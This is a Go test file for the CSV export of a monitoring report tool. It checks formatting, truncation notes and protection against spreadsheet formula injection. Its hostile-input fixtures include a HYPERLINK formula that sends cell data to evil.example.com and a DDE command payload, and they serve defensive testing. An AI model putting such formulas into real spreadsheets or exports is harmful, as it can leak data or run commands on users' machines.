package csv

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"

	"github.com/promsnap/promsnap/internal/panel"
	"github.com/promsnap/promsnap/internal/report"
	"github.com/promsnap/promsnap/internal/report/reporttest"
	"github.com/promsnap/promsnap/internal/rules"
	"github.com/promsnap/promsnap/internal/series"
	"github.com/promsnap/promsnap/internal/snapshot"
	"github.com/promsnap/promsnap/internal/units"
	corpus "github.com/promsnap/promsnap/testdata/hostile"
)

var update = flag.Bool("update", false, "rewrite the goldens")

// render returns the files of a report by name. Each is read back as RFC 4180 asks for: lines end
// in CRLF, and all rows have as many cells as the header.
func render(t *testing.T, r *report.Report) (bodies map[string]string, rows map[string][][]string) {
	t.Helper()
	files, err := Render(r)
	if err != nil {
		t.Fatal(err)
	}
	if err := report.CheckNames(files); err != nil {
		t.Fatal(err)
	}
	bodies, rows = map[string]string{}, map[string][][]string{}
	var names []string
	for _, f := range files {
		names = append(names, f.Name)
		bodies[f.Name] = string(f.Body)
		if rows[f.Name], err = csv.NewReader(bytes.NewReader(f.Body)).ReadAll(); err != nil {
			t.Errorf("%s: got error %v, want a file that can be read back", f.Name, err)
		}
		lines := strings.Count(bodies[f.Name], "\n")
		if got := strings.Count(bodies[f.Name], "\r\n"); got != lines || got != len(rows[f.Name]) {
			t.Errorf("%s: got %d ends of lines as CRLF of %d, want %d", f.Name, got, lines,
				len(rows[f.Name]))
		}
	}
	if got, want := strings.Join(names, " "), strings.Join(r.Tables(), " "); got != want {
		t.Errorf("the files: got %s, want those that report.json names: %s", got, want)
	}
	return bodies, rows
}

// daily is the daily report with CSV files of some panels.
func daily(t *testing.T, c *report.CSV, more ...snapshot.Panel) *report.Report {
	t.Helper()
	a, nodes := reporttest.Fleet(42)
	in := reporttest.Info(t, nodes)
	in.CSV = c
	return report.Build(in, append(reporttest.Take(a, reporttest.Specs()), more...))
}

func TestGoldens(t *testing.T) {
	bodies, _ := render(t, daily(t, &report.CSV{
		Panels: []string{"node-memory", "pvc", "container-oom"},
	}))
	for name, got := range bodies {
		path := filepath.Join("testdata", name)
		if *update {
			if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(path)
		if err != nil || got != string(want) {
			t.Errorf("%s (%v): got\n%s\nwant\n%s\nrun go test ./internal/report/csv -update and "+
				"read the difference", path, err, got, want)
		}
	}
}

func TestNothingUnlessAsked(t *testing.T) {
	if files, err := Render(daily(t, nil)); files != nil || err != nil {
		t.Errorf("got %d files, error %v, want none", len(files), err)
	}
	r := daily(t, &report.CSV{})
	r.Info.Fleet = &report.Fleet{}
	if bodies, _ := render(t, r); len(bodies) != 1 || bodies[report.FindingsTable] == "" {
		t.Errorf("a fleet: got %d files, want only %s", len(bodies), report.FindingsTable)
	}
}

func TestSameBytes(t *testing.T) {
	first, _ := render(t, daily(t, &report.CSV{All: true}))
	again, _ := render(t, daily(t, &report.CSV{All: true}))
	for name, want := range first {
		if got := again[name]; got != want {
			t.Errorf("%s again: got\n%s\nwant\n%s", name, got, want)
		}
	}
}

// A row with a note says what the table lacks, and every bound has one.
func TestNotesSayWhatIsLeftOut(t *testing.T) {
	a := reporttest.Answers{}
	for i := range tableRows + 234 {
		name := reporttest.NodeName(i)
		a.Add("many", series.FromPairs("node", name, "l"+name, "x", "n", name),
			reporttest.Constant(0.99))
	}
	spec := panel.Spec{
		Name: "many", Title: "Many", Measure: panel.NodeMemory,
		Queries: []panel.Query{{Expr: "many", Unit: units.PercentUnit, Legend: "{{node}}"}},
		Rules:   []rules.Rule{{Name: "High", Warning: rules.At(0.5)}},
	}
	failed := spec
	failed.Name, failed.Measure = "failed", ""
	failed.Queries = []panel.Query{{Expr: "nothing", Legend: "{{node}}"}}
	in := reporttest.Info(t, nil)
	in.CSV = &report.CSV{All: true}
	in.Incomplete = snapshot.NoteOf(snapshot.NoteCutShort, "the timeout")
	r := report.Build(in, reporttest.Take(a, []panel.Spec{spec, failed}))
	_, rows := render(t, r)
	for _, c := range []struct {
		file  string
		count int // rows without a note
		notes []string
	}{
		{
			report.FindingsTable, tableRows,
			[]string{"and 234 more findings", r.Incomplete(), r.Failures[0].Error},
		},
		{report.NodesTable, tableRows, []string{"and 234 more nodes"}},
		{
			report.PanelTable("many"), tableRows,
			[]string{"and 234 more series", "and 952 more labels"},
		},
		{report.PanelTable("failed"), 0, []string{r.Failures[0].Error}},
	} {
		count := 0
		var notes []string
		for _, row := range rows[c.file][1:] {
			if note := row[len(row)-1]; note != "" {
				notes = append(notes, note)
			} else {
				count++
			}
		}
		if count != c.count {
			t.Errorf("%s: got %d rows, want %d", c.file, count, c.count)
		}
		for _, want := range c.notes {
			if !strings.Contains(strings.Join(notes, "\n"), want) {
				t.Errorf("%s: got the notes %q, want one with %q", c.file, notes, want)
			}
		}
	}
}

// The queries of one panel may have several units, which are then a column.
func TestSeveralUnits(t *testing.T) {
	a := reporttest.Answers{}
	a.Add("used", series.FromPairs("node", "n"), reporttest.Constant(1<<30))
	a.Add("share", series.FromPairs("node", "n"), reporttest.Constant(0.5))
	in := reporttest.Info(t, nil)
	in.CSV = &report.CSV{All: true}
	_, rows := render(t, report.Build(in, reporttest.Take(a, []panel.Spec{{
		Name: "two", Title: "Two", Queries: []panel.Query{
			{Ref: "A", Expr: "used", Unit: units.Bytes, Legend: "{{node}}"},
			{Ref: "B", Expr: "share", Unit: units.PercentUnit, Legend: "{{node}}"},
		},
	}})))
	var got []string
	for _, row := range rows[report.PanelTable("two")] {
		got = append(got, strings.Join(row[1:8], ","))
	}
	want := "query,name,node,label_node,unit,last,avg\n" +
		"A,n (A),n,n,bytes,1.073741824e+09,1.073741824e+09\nB,n (B),n,n,ratio,0.5,0.5"
	if got := strings.Join(got, "\n"); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// harmless reports whether a spreadsheet shows a cell as it is: one line of valid text, or a
// number.
func harmless(cell string) bool {
	first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, func(r rune) bool {
		return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r)
	}))
	control := func(r rune) bool { return unicode.IsControl(r) || r == utf8.RuneError }
	return !strings.ContainsRune("=+-@|%＝＋－＠", first) &&
		!strings.ContainsFunc(cell, control)
}

func TestHostileWords(t *testing.T) {
	formulas := []corpus.Word{
		{Name: "formula", Text: `=HYPERLINK("http://evil.example.com/?"&A1,"x")`},
		{Name: "dde", Text: "\t\r\n=cmd|' /C calc'!A0"}, {Name: "plus", Text: "\u200d+1"},
		{Name: "quoted", Text: "\",\"\r\n=1+1"}, {Name: "wide", Text: " ＝1+1"},
		{Name: "minus", Text: "-2+3"}, {Name: "at", Text: "\ufeff@SUM(1)"},
	}
	for _, w := range append(corpus.Words(), formulas...) {
		r := reporttest.Hostile(t, w.Text)
		r.Info.CSV = &report.CSV{All: true}
		_, rows := render(t, r)
		if len(rows) != len(r.Panels)+2 {
			t.Errorf("%s: got %d files, want %d", w.Name, len(rows), len(r.Panels)+2)
		}
		for name, all := range rows {
			for _, row := range all {
				for _, cell := range row {
					if !harmless(cell) {
						t.Errorf("%s: %s: got the cell %.100q, want one that is no formula", w.Name,
							name, cell)
					}
				}
			}
		}
	}
}

func TestText(t *testing.T) {
	for text, want := range map[string]string{
		"up": "up", "": "", "=1+1": "'=1+1", "+x": "'+x", "-x": "'-x", "@x": "'@x", "\tx": " x",
		`{a="b"}`: `{a="b"}`, "\u00a0=1": "'\u00a0=1", "\n=1": "' =1", "＝1": "'＝1", "|x": "'|x",
		"%x": "'%x", "a=1": "a=1", "a\nb": "a b", "\x00=1": "'=1", "'=1": "'=1", "노드": "노드",
	} {
		if got := Text(text); got != want {
			t.Errorf("%q: got %q, want %q", text, got, want)
		}
	}
}

func TestTextIsNeverAFormula(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.StringOf(rapid.OneOf(rapid.SampledFrom([]rune(
			"=+-@|%＝＋－＠ \t\r\n\u00a0\u200d\u200b\u2060\ufeff'\"a")), rapid.Rune())).
			Draw(t, "text")
		if got := Text(text); !harmless(got) {
			t.Fatalf("%q: got %q, want no formula", text, got)
		}
	})
}

func FuzzText(f *testing.F) {
	for _, w := range corpus.Words() {
		f.Add(w.Text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if got := Text(text); !harmless(got) {
			t.Errorf("%q: got %q, want no formula", text, got)
		}
	})
}

func TestTime(t *testing.T) {
	at := time.Date(2026, 11, 22, 9, 0, 0, 0, time.FixedZone("KST", 9*3600))
	if got, want := Time(at), "2026-11-22T00:00:00Z"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	if got := Time(time.Time{}); got != "" {
		t.Errorf("no time: got %q, want an empty cell", got)
	}
}
